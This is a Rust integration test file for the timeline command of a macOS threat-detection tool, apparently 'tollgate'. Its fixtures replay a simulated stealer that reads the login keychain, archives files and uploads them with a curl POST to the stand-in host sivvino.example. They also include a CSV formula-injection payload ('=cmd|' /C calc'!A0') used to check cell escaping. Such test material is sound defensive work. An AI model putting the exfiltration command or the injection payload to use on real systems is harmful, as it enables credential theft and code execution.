//! `tollgate timeline`: what happened, in order, with gaps as gaps.

use std::fs;
use std::path::Path;
use std::process::Stdio;

use serde_json::Value;
use tollgate_corpus::secrets::{Eights, Secrets, TELLING};
use tollgate_model::HostName;
use tollgate_sim::{OsqueryForm, ZeekForm, osquery, zeek};

use crate::forms_hostile;
use crate::forms_secrets::thefts;
use crate::program::{Said, hunt_json, render, render_trace, run, tollgate};

const STEALER: &str = "a01-stealer-of-four-processes";

fn said(folder: &Path, words: &[&str]) -> Said {
    tollgate().arg("timeline").args(words).arg(folder).output().unwrap().into()
}

fn told(folder: &Path, words: &[&str]) -> String {
    let said = said(folder, words);
    assert_eq!(said.code, Some(0), "{words:?}: {}", said.err);
    said.out
}

fn lines(folder: &Path, words: &[&str]) -> Vec<Value> {
    told(folder, &[words, &["--format", "jsonl"]].concat()).lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn records(lines: &[Value]) -> Vec<&Value> {
    lines.iter().filter(|line| line["kind"] == "record").collect()
}

fn gaps(lines: &[Value]) -> Vec<String> {
    let gaps = lines.iter().filter(|line| line["kind"] == "gap");
    gaps.map(|gap| format!("{} {}", &gap["time"].as_str().unwrap()[11..23], gap["text"].as_str().unwrap())).collect()
}

fn only_finding(folder: &Path) -> Value {
    let mut found = hunt_json(folder, &[]);
    assert_eq!(found.len(), 1);
    found.remove(0)
}

fn id(finding: &Value) -> &str {
    finding["id"].as_str().unwrap()
}

/// `time action pid` of each line of a trace that tells of something, in order of time; rows of sensors have no pid.
fn of_trace(trace: &str) -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    for line in trace.lines() {
        let words: Vec<&str> = line.split(' ').collect();
        let [time, action, who, ..] = words.as_slice() else { continue };
        if !time.starts_with(|c: char| c.is_ascii_digit()) {
            continue;
        }
        match *action {
            "flow" | "tls" => all.push(format!("{time} {action} -")),
            _ => all.push(format!("{time} {action} {}", if *who == "zsh" { "400" } else { who })),
        }
    }
    all.sort();
    all
}

fn shown(record: &Value) -> String {
    let pid = record["process"]["pid"].as_u64().map_or("-".to_owned(), |pid| pid.to_string());
    format!("{} {} {pid}", &record["time"].as_str().unwrap()[11..23], record["action"].as_str().unwrap())
}

#[test]
fn the_story_of_a_stealer_is_told_line_by_line_with_its_steps() {
    let folder = tempfile::tempdir().unwrap();
    render_trace(STEALER, folder.path());
    let finding = only_finding(folder.path());
    let lines = lines(folder.path(), &[id(&finding)]);
    let told = records(&lines);
    let trace = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/traces").join(format!("{STEALER}.trace"))).unwrap();
    assert_eq!(told.iter().map(|record| shown(record)).collect::<Vec<_>>(), of_trace(&trace));
    // Each step stands on the record that it cites, and on no other.
    let mut marks: Vec<(u64, &str, &Value)> = Vec::new();
    for record in &told {
        for step in record["steps"].as_array().unwrap() {
            assert_eq!(step["finding"], finding["id"]);
            marks.push((step["number"].as_u64().unwrap(), step["kind"].as_str().unwrap(), &record["record"]));
        }
    }
    marks.sort_by_key(|(number, ..)| *number);
    let cited = finding["steps"].as_array().unwrap();
    assert_eq!(marks.len(), cited.len());
    for ((number, kind, record), (expected, step)) in marks.iter().zip((1..).zip(cited)) {
        assert_eq!((*number, *kind, *record), (expected, step["kind"].as_str().unwrap(), &step["record"]));
    }
    // Three reads by cat, an archive by ditto, and what left.
    let kinds = |time: &str| -> Vec<&str> {
        let record = told.iter().find(|record| shown(record).starts_with(time)).unwrap();
        record["steps"].as_array().unwrap().iter().map(|step| step["kind"].as_str().unwrap()).collect()
    };
    for time in ["10:00:05.050", "10:00:06.040", "10:00:07.040"] {
        assert!(kinds(time).contains(&"read"), "{time}");
    }
    assert_eq!(kinds("10:00:25.020"), ["archive"]);
    assert_eq!(kinds("10:00:27.200"), ["egress"]);
    assert_eq!(
        gaps(&lines),
        [
            "10:00:00.000 — records begin here: earlier is not known —",
            "10:00:27.200 — rows of the network begin here: earlier is not known —",
            "10:00:30.200 — rows of the network end here: later is not known —",
            "10:00:31.130 — records end here: later is not known —",
        ]
    );
    let exec = told.iter().find(|record| shown(record) == "10:00:27.010 exec 506").unwrap();
    assert_eq!(exec["process"]["path"], "/private/tmp/update");
    assert_eq!(exec["target"]["path"], "/usr/bin/curl");
    let words =
        ["curl", "-X", "POST", "-H", "user: ana", "-H", "BuildID: 42", "-F", "file=@/tmp/out.zip", "https://sivvino.example/contact"];
    assert_eq!(exec["arguments"], serde_json::json!(words));
    let flow = told.iter().find(|record| record["action"] == "flow").unwrap();
    assert_eq!((flow["bytes_out"].as_u64(), flow["bytes_in"].as_u64()), (Some(3_801_000), Some(900)));
    assert_eq!(told.iter().find(|record| record["action"] == "tls").unwrap()["name"], "sivvino.example");
}

#[test]
fn the_window_is_as_asked_for_and_the_table_has_one_line_a_row() {
    let folder = tempfile::tempdir().unwrap();
    render_trace(STEALER, folder.path());
    let finding = only_finding(folder.path());
    let narrow = lines(folder.path(), &["--before", "0s", "--after", "0s", id(&finding)]);
    // From the first read to the last byte; nothing is said of ends that were not asked for.
    let told = records(&narrow);
    assert_eq!(shown(told[0]), "10:00:05.050 read 502");
    assert_eq!(shown(told[told.len() - 1]), "10:00:27.230 tls -");
    assert_eq!(gaps(&narrow), ["10:00:27.200 — rows of the network begin here: earlier is not known —"]);
    let table = self::told(folder.path(), &["--before", "0s", "--after", "0s", "--format", "table", id(&finding)]);
    assert_eq!(table.lines().count(), narrow.len() + 1, "{table}");
    assert!(table.contains("cat 502"), "{table}");
    assert!(table.contains("read /Users/ana/Library/Keychains/login.keychain-db (310.0 kB)"), "{table}");
    assert!(table.contains("flow tcp 10.0.0.5:51000 -> 203.0.113.62:443, 3 s, 3.8 MB out, 900 B in, ssl"), "{table}");
}

#[test]
fn the_rest_of_the_mac_is_shown_if_asked_for_and_what_is_too_much_is_counted() {
    let folder = tempfile::tempdir().unwrap();
    let trace = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/traces").join(format!("{STEALER}.trace"))).unwrap();
    let other = "process mail pid=900.90 parent=1.1 auid=501 user=501 platform com.apple.mail /Applications/Mail.app/Contents/MacOS/Mail\n\
        10:00:20.000 read 900 /Users/ana/Library/Mail/inbox size=4\n\
        10:00:20.010 unlink 900 /tmp/out.zip\n";
    render(&format!("{trace}{other}"), folder.path());
    let finding = only_finding(folder.path());
    let mails = |words: &[&str]| -> Vec<String> {
        let lines = lines(folder.path(), &[words, &[id(&finding)]].concat());
        records(&lines).iter().filter(|record| record["process"]["pid"] == 900).map(|record| shown(record)).collect()
    };
    // What somebody else does to a file of the story is the story's; what they do otherwise is not.
    assert_eq!(mails(&[]), ["10:00:20.010 unlink 900"]);
    assert_eq!(mails(&["--all"]), ["10:00:20.000 read 900", "10:00:20.010 unlink 900"]);
    let all = lines(folder.path(), &[id(&finding)]);
    let few = lines(folder.path(), &["--limit", "12", id(&finding)]);
    assert_eq!(records(&few), records(&all)[..12]);
    let more = few.last().unwrap();
    let steps: usize = records(&all)[12..].iter().map(|record| record["steps"].as_array().unwrap().len()).sum();
    assert_eq!((more["kind"].as_str(), more["records"].as_u64()), (Some("more"), Some(records(&all).len() as u64 - 12)));
    assert_eq!((more["steps"].as_u64(), more["until"].as_str()), (Some(steps as u64), records(&all).last().unwrap()["time"].as_str()));
}

#[test]
fn records_that_were_lost_are_a_row() {
    let folder = tempfile::tempdir().unwrap();
    render_trace(STEALER, folder.path());
    let log = folder.path().join("mac1/es.ndjson");
    let text = fs::read_to_string(&log).unwrap();
    // The close by cat, its exit, and the shell's close: from the read until the shell's exit.
    let kept: Vec<&str> = text.lines().enumerate().filter(|(at, _)| ![9, 10, 11].contains(at)).map(|(_, line)| line).collect();
    fs::write(&log, kept.join("\n") + "\n").unwrap();
    let lines = lines(folder.path(), &["--host", "mac1"]);
    assert_eq!(gaps(&lines), ["10:00:05.050 — 3 records lost between 10:00:05.050 and 10:00:05.090 —"]);
    let at = lines.iter().position(|line| line["kind"] == "gap").unwrap();
    assert_eq!((shown(&lines[at - 1]), shown(&lines[at + 1])), ("10:00:05.050 read 502".into(), "10:00:05.090 exit 501".into()));
    assert_eq!((lines[at]["gap"].as_str(), lines[at]["lost"].as_u64()), (Some("lost"), Some(3)));
}

/// A Mac that nobody took anything from, with an hour in which nothing is told.
const QUIET: &str = "host mac1\n\
    process zsh pid=400.20 parent=300.10 auid=501 user=501 platform com.apple.zsh /bin/zsh\n\
    10:00:00.000 fork zsh -> 500\n\
    10:00:00.010 exec 500 platform com.apple.ls /bin/ls : ls -l\n\
    10:00:00.020 exit 500\n\
    11:00:00.000 flow C1 10.0.0.5:51000 -> 203.0.113.62:443 tcp for 3s out=3000 in=900 service=ssl\n\
    12:13:00.020 fork zsh -> 501\n\
    12:13:30.000 exit 501\n";

#[test]
fn a_mac_without_findings_is_shown_and_where_nothing_was_told_is_a_row() {
    let folder = tempfile::tempdir().unwrap();
    render(QUIET, folder.path());
    let whole = lines(folder.path(), &["--host", "mac1"]);
    assert_eq!(
        records(&whole).iter().map(|record| shown(record)).collect::<Vec<_>>(),
        [
            "10:00:00.000 fork 400",
            "10:00:00.010 exec 500",
            "10:00:00.020 exit 500",
            "11:00:00.000 flow -",
            "12:13:00.020 fork 400",
            "12:13:30.000 exit 501"
        ]
    );
    // A sensor of the network tells nothing of what happens on the Mac.
    assert_eq!(gaps(&whole), ["10:00:00.020 — nothing was told for 2 h 13 m —"]);
    assert!(records(&whole).iter().all(|record| record["steps"].as_array().unwrap().is_empty()));
    assert_eq!(gaps(&lines(folder.path(), &["--host", "mac1", "--quiet", "3h"])), [""; 0]);
    let day = &records(&whole)[0]["time"].as_str().unwrap()[..10];
    let (since, until) = (format!("{day}T10:00:00.015Z"), format!("{day}T12:13:10Z"));
    let part = lines(folder.path(), &["--host", "mac1", "--since", &since, "--until", &until]);
    assert_eq!(records(&part).len(), 3);
    // The inputs hold more on both sides, but the sensor's one row ends within.
    assert_eq!(
        gaps(&part),
        [
            "10:00:00.020 — nothing was told for 2 h 13 m —",
            "11:00:00.000 — rows of the network begin here: earlier is not known —",
            "11:00:03.000 — rows of the network end here: later is not known —"
        ]
    );
    let before = lines(folder.path(), &["--host", "mac1", "--until", &format!("{day}T09:00:00Z")]);
    assert_eq!(before, [Value::Null; 0]);
}

#[test]
fn standard_input_is_read_once_so_that_only_a_mac_can_be_named() {
    let folder = tempfile::tempdir().unwrap();
    render_trace(STEALER, folder.path());
    let with = |words: &[&str]| -> Said {
        let log = fs::File::open(folder.path().join("mac1/es.ndjson")).unwrap();
        tollgate().arg("timeline").args(words).stdin(Stdio::from(log)).output().unwrap().into()
    };
    let said = with(&["3f", "-"]);
    assert_eq!(said.code, Some(2));
    assert!(said.err.contains("can be read only once"), "{}", said.err);
    let said = with(&["--host", "mac1", "--unnamed-host", "mac1", "--format", "jsonl", "-"]);
    // The trace's lines but those of the sensor, of which it is said that there is none.
    assert_eq!((said.code, said.out.lines().count()), (Some(0), 44), "{}", said.err);
}

#[test]
fn who_is_not_there_is_named_with_those_who_are() {
    let folder = tempfile::tempdir().unwrap();
    render_trace(STEALER, folder.path());
    let unknown = said(folder.path(), &["ffffffffffff"]);
    assert_eq!((unknown.code, unknown.out.as_str()), (Some(2), ""));
    assert!(unknown.err.contains("no finding begins with \"ffffffffffff\""), "{}", unknown.err);
    let before = said(folder.path(), &["--host", "mac1", "--until", "2001-01-01"]);
    assert_eq!(before.code, Some(0), "{}", before.err);
    assert!(before.err.contains("nothing in the time asked for: what these inputs tell of this Mac is from 20"), "{}", before.err);
    let nobody = said(folder.path(), &["--host", "mac2"]);
    assert_eq!((nobody.code, nobody.out.as_str()), (Some(2), ""));
    assert!(nobody.err.contains("these inputs tell nothing of mac2: they tell of mac1"), "{}", nobody.err);
    for words in [&["--host", "mac1", "--all"][..], &["--since", "24h", "3f"], &["--before", "-5m", "3f"], &["--limit", "0", "3f"]] {
        assert_eq!(said(folder.path(), words).code, Some(2), "{words:?}");
    }
    assert_eq!(run(&["timeline", "3f2a"]).code, Some(2));
}

#[test]
fn findings_of_a_mac_are_marked_and_the_same_is_the_same_bytes_with_any_threads() {
    let folder = tempfile::tempdir().unwrap();
    render_trace(STEALER, folder.path());
    let finding = only_finding(folder.path());
    let whole = lines(folder.path(), &["--host", "mac1"]);
    let marks: usize = records(&whole).iter().map(|record| record["steps"].as_array().unwrap().len()).sum();
    assert_eq!(marks, finding["steps"].as_array().unwrap().len());
    let table = told(folder.path(), &["--host", "mac1", "--format", "table"]);
    let (short, row) = (&id(&finding)[..8], table.lines().find(|line| line.contains("egress")).unwrap());
    assert!(row.contains(&format!("{short}: ")), "{row}");
    for words in [vec![id(&finding)], vec!["--host", "mac1"]] {
        for format in ["table", "jsonl", "timesketch", "csv"] {
            let with = |threads: &str| told(folder.path(), &[&["--threads", threads, "--format", format], words.as_slice()].concat());
            let once = with("1");
            assert!(["1", "2", "5"].iter().all(|threads| with(threads) == once), "{format}");
        }
    }
    // Without a terminal, lines of JSON; into a file, the same.
    let file = folder.path().join("out");
    let printed = told(&folder.path().join("mac1"), &["--host", "mac1"]);
    told(&folder.path().join("mac1"), &["--host", "mac1", "-o", file.to_str().unwrap()]);
    assert_eq!(fs::read_to_string(&file).unwrap(), printed);
    assert_eq!(said(&folder.path().join("mac1"), &["--host", "mac1", "-o", file.to_str().unwrap()]).code, Some(2));
}

#[test]
fn hostile_names_are_text_in_every_form_and_rows_stay_rows() {
    let folder = tempfile::tempdir().unwrap();
    forms_hostile::telemetry(folder.path());
    for (at, text) in (1..).zip(forms_hostile::HOSTILE) {
        let host = format!("mac{at:02}");
        for format in ["table", "jsonl", "timesketch", "csv"] {
            let out = told(folder.path(), &["--host", &host, "--format", format]);
            assert!(!out.chars().any(forms_hostile::acts), "{format}: {out:?}");
            let head = usize::from(["table", "csv"].contains(&format));
            // A fork, an exec, two reads, a create and a close; that there is no sensor: nobody says whose its rows are.
            assert_eq!(out.lines().count(), 7 + head, "{format}: {out}");
            let rows = told(folder.path(), &["--host", &format!("ip:10.0.0.{at}"), "--format", format]);
            assert!(!rows.chars().any(forms_hostile::acts), "{format}: {rows:?}");
            // A flow and a handshake, and that there is nothing of the Mac itself.
            assert_eq!(rows.lines().count(), 3 + head, "{format}: {rows}");
        }
        let lines = lines(folder.path(), &["--host", &host]);
        let path = format!("/Users/ana/Documents/{text}.docx");
        assert_eq!(records(&lines).iter().filter(|record| record["path"] == path.as_str()).count(), 1, "{path:?}");
        assert_eq!(gaps(&lines), ["10:00:00.000 — no sensor of the network told anything of this Mac —"]);
        let rows = self::lines(folder.path(), &["--host", &format!("ip:10.0.0.{at}")]);
        assert_eq!(gaps(&rows), ["10:00:08.100 — no source on this Mac told anything —"]);
    }
}

#[test]
fn no_cell_is_a_formula() {
    let folder = tempfile::tempdir().unwrap();
    let trace = "host mac1\n\
        process zsh pid=400.20 parent=300.10 auid=501 user=501 unsigned \"=cmd|' /C calc'!A0\"\n\
        10:00:00.000 fork zsh -> 500\n\
        10:00:00.010 exec 500 unsigned \"@SUM(1)\" : \"=1+1\"\n\
        10:00:00.020 create 500 /tmp/+1\n";
    render(trace, folder.path());
    let sheet = told(folder.path(), &["--host", "mac1", "--format", "csv"]);
    assert_eq!(sheet.lines().count(), 5, "{sheet}");
    for line in sheet.lines() {
        for cell in line.split(',') {
            assert!(!cell.trim_matches('"').trim_start().starts_with(['=', '+', '-', '@']), "{cell} in {line}");
        }
    }
    assert!(sheet.contains(",'=cmd|' /C calc'!A0,400,fork,fork 500,"), "{sheet}");
    assert!(sheet.contains(",'@SUM(1),500,create,"), "{sheet}");
}

#[test]
fn no_part_of_a_secret_is_shown() {
    let mut random = Secrets::new(77);
    let mut secrets = Vec::new();
    while secrets.len() < 120 {
        secrets.extend(random.shaped());
        secrets.extend(random.plain());
    }
    let trace = thefts(&secrets, |at| TELLING[at % TELLING.len()]);
    // All on one Mac, one after the other.
    let mut one = String::from("host mac000\n");
    for (at, theft) in trace.split("host ").skip(1).enumerate() {
        let minute = format!("{:02}:{:02}:", 10 + at / 60, at % 60);
        let theft = theft.split_once('\n').unwrap().1.replace("10:00:", &minute);
        one.push_str(&theft.replace("500", &(1000 + at).to_string()).replace("pid=400.20", &format!("pid=400.{}", 20_000 + at)));
    }
    let folder = tempfile::tempdir().unwrap();
    render(&one, folder.path());
    for format in ["table", "jsonl", "timesketch", "csv"] {
        let text = told(folder.path(), &["--host", "mac000", "--format", format]);
        let shown = Eights::of(text.as_bytes());
        for secret in &secrets {
            assert_eq!(shown.leak(secret), None, "{format}: {secret}");
        }
        let marked = text.lines().filter(|line| line.contains("[redacted len=")).count();
        assert!(format == "table" || marked >= secrets.len(), "{format}: {marked}");
    }
}

#[test]
fn coarse_times_say_so_beside_fine_ones() {
    let folder = tempfile::tempdir().unwrap();
    let case = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/traces/a42-old-connection-named-by-arguments.trace"));
    let trace = tollgate_trace::parse(&case.unwrap()).unwrap();
    fs::write(folder.path().join("osqueryd.results.log"), osquery(&trace, &HostName::new("mac1"), OsqueryForm::Events)).unwrap();
    for (name, bytes) in zeek(&trace, ZeekForm::Table) {
        fs::write(folder.path().join(format!("{name}.log")), bytes).unwrap();
    }
    let lines = lines(folder.path(), &["--host", "mac1"]);
    let told: Vec<(String, i64)> = records(&lines).iter().map(|record| (shown(record), record["precision_ns"].as_i64().unwrap())).collect();
    assert_eq!(
        told,
        [
            ("07:59:59.000 exec 600".to_owned(), 1_000_000_000),
            ("08:00:00.000 flow -".to_owned(), 1_000),
            ("08:00:00.030 tls -".to_owned(), 1_000),
            ("12:00:00.000 read 600".to_owned(), 1_000_000_000),
            ("12:20:05.000 exit 600".to_owned(), 1_000_000_000),
        ]
    );
    let table = self::told(folder.path(), &["--host", "mac1", "--format", "table"]);
    let coarse: Vec<&str> = table.lines().filter(|line| line.contains("~1s")).collect();
    assert_eq!(coarse.len(), 3, "{table}");
    assert!(coarse[0].contains("T07:59:59.000Z ~1s"), "{table}");
}

#[test]
fn lines_are_as_the_schema_says() {
    let schema: Value = serde_json::from_str(&run(&["schema", "timeline"]).out).unwrap();
    let written = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/timeline.schema.json");
    assert_eq!(serde_json::from_str::<Value>(&fs::read_to_string(written).unwrap()).unwrap(), schema);
    let folder = tempfile::tempdir().unwrap();
    render_trace(STEALER, folder.path());
    let finding = only_finding(folder.path());
    let lines = lines(folder.path(), &["--limit", "20", id(&finding)]);
    let kinds = [("record", "RecordLine"), ("gap", "GapLine"), ("more", "MoreLine")];
    for (kind, name) in kinds {
        let of: Vec<&Value> = lines.iter().filter(|line| line["kind"] == kind).collect();
        assert!(!of.is_empty(), "{kind}");
        let about = &schema["$defs"][name];
        let known = about["properties"].as_object().unwrap();
        for line in of {
            let line = line.as_object().unwrap();
            assert!(line.keys().all(|key| key == "kind" || known.contains_key(key)), "{line:?}");
            let required = about["required"].as_array().unwrap();
            assert!(required.iter().all(|key| line.contains_key(key.as_str().unwrap())), "{line:?}");
        }
    }
}
